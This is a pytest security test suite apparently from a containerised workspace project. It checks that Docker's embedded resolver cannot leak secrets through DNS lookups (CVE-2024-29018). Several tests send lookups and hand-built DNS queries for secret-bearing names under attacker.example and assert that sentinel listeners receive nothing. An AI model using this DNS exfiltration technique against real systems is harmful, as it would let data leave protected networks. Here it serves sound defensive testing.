"""DNS as a way out (CVE-2024-29018): looking up `<secret>.attacker.example` from a workspace.

Docker's embedded resolver (127.0.0.11 in every container on a user-defined network) answers the
names of containers on the container's networks and forwards every other name upstream, also from
internal networks, on engines before 26.0 (this machine runs 20.10). Where the upstream is a loopback
resolver from the host's resolv.conf, the engine dials it from the HOST's namespace: the query, and
the secret in it, leaves the enclave. The spawner names the upstream itself (hardening.DNS_NOWHERE, a
loopback address), and 20.10 dials a named upstream inside the container's own namespace, where
nothing listens on port 53.

Strict network rule: a test must never send a query towards the machine's real resolver. Every test
that looks a name up from a workspace first checks the container's upstream is DNS_NOWHERE and fails
before any lookup if it is not. Sentinels: UDP and TCP listeners on port 53 at every place the
forwarded query could land on this machine (the host's loopback at DNS_NOWHERE, the project gateway),
each shown to work before the attempt.
"""

from __future__ import annotations

import secrets
import socket
import threading
import time

import pytest

from enclave.spawner.hardening import DNS_NOWHERE
from tests.integration.security.probes import gateway, require_mitigation, resolve


class DnsSentinel:
    """Records every datagram and connection to <address>:53 (answers nothing)."""

    def __init__(self, address: str):
        self.address, self.received = address, []
        self.udp = self._bind(socket.SOCK_DGRAM)
        self.tcp = self._bind(socket.SOCK_STREAM)
        self.tcp.listen(8)
        self._stop = False
        for target in (self._udp_loop, self._tcp_loop):
            threading.Thread(target=target, daemon=True).start()

    def _bind(self, kind) -> socket.socket:
        sock = socket.socket(socket.AF_INET, kind)
        if kind == socket.SOCK_STREAM:  # past TIME_WAIT only; a UDP port must be this sentinel's alone
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        deadline = time.monotonic() + 30
        while True:  # another test run may hold the port for a moment
            try:
                sock.bind((self.address, 53))
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.5)
        sock.settimeout(0.2)
        return sock

    def _udp_loop(self):
        while not self._stop:
            try:
                data, _peer = self.udp.recvfrom(4096)
                self.received.append(data)
            except (TimeoutError, OSError):
                continue

    def _tcp_loop(self):
        while not self._stop:
            try:
                conn, _peer = self.tcp.accept()
                self.received.append(b"tcp-connection")
                conn.close()
            except (TimeoutError, OSError):
                continue

    def saw(self, marker: str) -> bool:
        return any(marker.encode() in packet for packet in self.received)

    def prove_listening(self) -> None:
        marker = f"control{secrets.token_hex(4)}"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(marker.encode(), (self.address, 53))
        deadline = time.monotonic() + 5
        while not self.saw(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert self.saw(marker), f"the sentinel on {self.address}:53 does not receive"

    def close(self):
        self._stop = True
        self.udp.close()
        self.tcp.close()


@pytest.fixture
def sentinels(alice_alpha):
    require_mitigation(alice_alpha.container)
    opened = [DnsSentinel(DNS_NOWHERE), DnsSentinel(gateway(alice_alpha))]
    try:
        for sentinel in opened:
            sentinel.prove_listening()
        yield opened
    finally:
        for sentinel in opened:
            sentinel.close()


def secret_name() -> tuple[str, str]:
    label = f"leak{secrets.token_hex(6)}"
    return label, f"{label}.attacker.example"


def test_the_embedded_resolver_does_forward_outside_names_on_this_engine(enclave, docker_client, workspace_image):
    """Control for RT-40..42: without the spawner's upstream, an internal network's resolver forwards.

    A container of this test on a network of this test, with its upstream set to that network's
    gateway where a sentinel listens (no firewall on this network): the sentinel receives the name.
    So the channel is real here, and the sentinel and the lookup both work.
    """
    instance = enclave.settings.instance
    network = docker_client.networks.create(
        f"{instance}-dns-control", driver="bridge", internal=True, labels={"enclave.instance": instance}
    )
    network.reload()
    gw = network.attrs["IPAM"]["Config"][0]["Gateway"]
    sentinel = DnsSentinel(gw)
    label, name = secret_name()
    try:
        sentinel.prove_listening()
        docker_client.containers.run(
            workspace_image,
            ["python3", "-c", f"import socket\ntry: socket.getaddrinfo({name!r}, 80)\nexcept OSError: pass"],
            network=network.name,
            dns=[gw],
            user="1000:1000",
            remove=True,
            labels={"enclave.instance": instance, "enclave.kind": "sentinel"},
        )
        assert sentinel.saw(label)
    finally:
        sentinel.close()
        network.remove()


def test_a_lookup_of_an_outside_name_reaches_no_resolver(alice_alpha, sentinels):
    """RT-40: DNS lookup of a name outside the enclave, carrying a secret, from the workspace's kernel."""
    label, name = secret_name()
    assert resolve(alice_alpha, [name]) == {name: "EAI_AGAIN"}  # the resolver found no upstream that answers
    time.sleep(1)  # a forwarded query would have arrived by now (it is sent before the lookup fails)
    assert not any(s.saw(label) for s in sentinels), [s.address for s in sentinels if s.saw(label)]


def test_a_raw_query_to_the_embedded_resolver_reaches_no_resolver(alice_alpha, sentinels):
    """RT-41: a hand-made DNS query sent straight to 127.0.0.11 (bypassing the C library's resolver)."""
    label, name = secret_name()
    out = alice_alpha.run(
        "import socket, struct\n"
        f"labels = {name!r}.split('.')\n"
        "question = b''.join(bytes([len(p)]) + p.encode() for p in labels) + b'\\0' + struct.pack('>HH', 1, 1)\n"
        "query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + question\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)\n"
        "s.sendto(query, ('127.0.0.11', 53))\n"
        "try:\n"
        "    reply = s.recv(4096); print('RCODE', reply[3] & 0x0F, 'ANSWERS', struct.unpack('>H', reply[6:8])[0])\n"
        "except TimeoutError:\n"
        "    print('NO-REPLY')\n"
    )
    # SERVFAIL (2) with no answer: the resolver could not forward it anywhere.
    assert out.split() in (["RCODE", "2", "ANSWERS", "0"], ["NO-REPLY"]), out
    time.sleep(1)
    assert not any(s.saw(label) for s in sentinels)


def test_a_query_sent_straight_to_the_gateway_is_dropped(alice_alpha, sentinels):
    """RT-42: send a DNS query directly to the host on the project gateway, port 53 (UDP and TCP)."""
    label, name = secret_name()
    gw = gateway(alice_alpha)
    out = alice_alpha.run(
        "import socket\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)\n"
        f"u.sendto({name!r}.encode(), ({gw!r}, 53))\n"
        "try:\n"
        "    u.recv(512); print('REPLY')\n"
        "except TimeoutError:\n"
        "    print('NO-REPLY')\n"
        "t = socket.socket(); t.settimeout(3)\n"
        "try:\n"
        f"    t.connect(({gw!r}, 53)); print('OPEN')\n"
        "except TimeoutError:\n"
        "    print('TIMEOUT')\n"
        "except OSError as e:\n"
        "    print(type(e).__name__)\n"
    )
    assert out.split() == ["NO-REPLY", "TIMEOUT"]  # dropped by ENCLAVE-INPUT: the sentinel does listen there
    time.sleep(0.5)
    assert not any(s.saw(label) for s in sentinels)
    assert not any(b"tcp-connection" in packet for s in sentinels for packet in s.received)


def test_names_the_workspace_needs_still_resolve(alice_alpha):
    """The hub is reached by IP; the workspace's own names resolve from /etc/hosts, without a query out."""
    require_mitigation(alice_alpha.container)
    hostname = alice_alpha.run("import socket; print(socket.gethostname())").strip()
    verdicts = resolve(alice_alpha, ["localhost", hostname])
    assert verdicts["localhost"] == "127.0.0.1"
    assert verdicts[hostname] == alice_alpha.ip
    hub_url = alice_alpha.run("import os; print(os.environ['JUPYTERHUB_API_URL'])").strip()
    host = hub_url.split("//", 1)[1].split(":", 1)[0]
    assert socket.inet_aton(host)  # an address, not a name to look up
